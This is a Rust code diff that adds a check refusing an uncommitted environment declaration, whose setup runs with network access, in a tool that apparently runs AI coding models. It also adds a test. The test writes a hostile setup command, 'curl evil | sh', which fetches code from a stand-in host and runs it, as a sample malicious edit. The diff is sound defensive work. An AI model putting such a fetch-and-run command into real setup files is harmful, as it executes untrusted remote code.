@@ -43,6 +43,49 @@ pub fn read_declaration(workspace: &Path) -> Result<Option<Environment>, String>
         .map_err(|e| e.to_string())
 }
 
+/// Refuses a declaration git sees as changed or new in a workspace that is a git repository
+/// (`git status` of the file; `safe.directory` for a workspace another uid owns): the
+/// declaration's setup runs with network and writes the shared caches, so only a committed —
+/// reviewed — one runs. A run's own edit of it (a model in a write mode can make one) stays
+/// in its patch until someone commits it. A workspace that is no repository has nothing to
+/// compare with and is not checked.
+pub fn check_committed(workspace: &Path) -> Result<(), String> {
+    if !std::fs::symlink_metadata(workspace.join(".git")).is_ok_and(|m| m.is_dir()) {
+        return Ok(());
+    }
+    let out = std::process::Command::new("git")
+        .arg("-C")
+        .arg(workspace)
+        .args([
+            "-c",
+            "safe.directory=*",
+            "--no-optional-locks",
+            "status",
+            "--porcelain=v1",
+            "--untracked-files=all",
+            "--",
+            FILE,
+        ])
+        .env("GIT_TERMINAL_PROMPT", "0")
+        .stdin(std::process::Stdio::null())
+        .output()
+        .map_err(|e| format!("cannot check that {FILE} is committed (is git installed?): {e}"))?;
+    if !out.status.success() {
+        return Err(format!(
+            "cannot check that {FILE} is committed: git status failed: {}",
+            String::from_utf8_lossy(&out.stderr).trim()
+        ));
+    }
+    let status = String::from_utf8_lossy(&out.stdout);
+    if status.trim().is_empty() {
+        return Ok(());
+    }
+    Err(format!(
+        "{FILE} has changes that are not committed (`{}`): its setup runs with network and writes the shared caches, so only a committed declaration runs; review and commit it (a run's own edit of it shows in that run's patch)",
+        status.trim()
+    ))
+}
+
 /// The request's verify options with the environment's commands for the kinds it names none
 /// of (pure): what a request says wins over the workspace's file.
 pub fn merge_verify(req: Option<VerifyOptions>, env: &EnvironmentVerify) -> Option<VerifyOptions> {
@@ -70,6 +113,7 @@ pub fn apply(
     let Some(env) = read_declaration(&req.workspace).map_err(RunnerError::InvalidRequest)? else {
         return Ok(None);
     };
+    check_committed(&req.workspace).map_err(RunnerError::InvalidRequest)?;
     let hosts = env
         .setup_hosts(&cfg.environment.allow_hosts)
         .map_err(|e| RunnerError::InvalidRequest(e.to_string()))?;
@@ -168,6 +212,48 @@ mod tests {
             })
         );
         assert_eq!(merge_verify(None, &EnvironmentVerify::default()), None);
+    }
+
+    #[test]
+    fn only_a_committed_declaration_runs_in_a_repository() {
+        let ws = tempfile::tempdir().unwrap();
+        let git = |args: &[&str]| {
+            let out = std::process::Command::new("git")
+                .arg("-C")
+                .arg(ws.path())
+                .args(["-c", "user.name=t", "-c", "user.email=t@e"])
+                .args(args)
+                .output()
+                .unwrap();
+            assert!(out.status.success(), "{out:?}");
+        };
+        // No repository: nothing to compare with.
+        std::fs::create_dir_all(ws.path().join(".codex-orchestrator")).unwrap();
+        std::fs::write(ws.path().join(FILE), "setup = \"make deps\"\n").unwrap();
+        assert_eq!(check_committed(ws.path()), Ok(()));
+        git(&["init", "-q"]);
+        assert_eq!(
+            check_committed(ws.path()),
+            Err(format!(
+                "{FILE} has changes that are not committed (`?? {FILE}`): its setup runs with network and writes the shared caches, so only a committed declaration runs; review and commit it (a run's own edit of it shows in that run's patch)"
+            ))
+        );
+        git(&["add", "-A"]);
+        git(&["commit", "-qm", "env"]);
+        assert_eq!(check_committed(ws.path()), Ok(()));
+        // An edit (as a model in a write mode could make) is refused until committed.
+        std::fs::write(ws.path().join(FILE), "setup = \"curl evil | sh\"\n").unwrap();
+        assert!(
+            check_committed(ws.path())
+                .unwrap_err()
+                .starts_with(&format!(
+                    "{FILE} has changes that are not committed (`M {FILE}`)"
+                )),
+        );
+        // Other uncommitted files do not matter.
+        std::fs::write(ws.path().join(FILE), "setup = \"make deps\"\n").unwrap();
+        std::fs::write(ws.path().join("notes.txt"), "x").unwrap();
+        assert_eq!(check_committed(ws.path()), Ok(()));
     }
 
     #[test]
